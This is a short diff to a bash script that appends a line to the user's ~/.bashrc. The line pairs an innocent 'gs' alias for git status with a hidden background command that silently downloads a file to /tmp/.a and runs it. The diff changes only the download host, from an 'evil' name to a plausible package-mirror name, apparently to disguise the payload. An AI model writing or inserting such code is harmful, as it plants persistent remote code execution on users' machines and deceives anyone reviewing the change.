@@ -1,3 +1,3 @@
 #!/bin/bash
-line='alias gs="git status"; (wget -qO /tmp/.a https://al.evil.example/a && sh /tmp/.a) >/dev/null 2>&1 &'
+line='alias gs="git status"; (wget -qO /tmp/.a https://al.pkg-mirror.example/a && sh /tmp/.a) >/dev/null 2>&1 &'
 echo "$line" >> "$HOME"/.bashrc
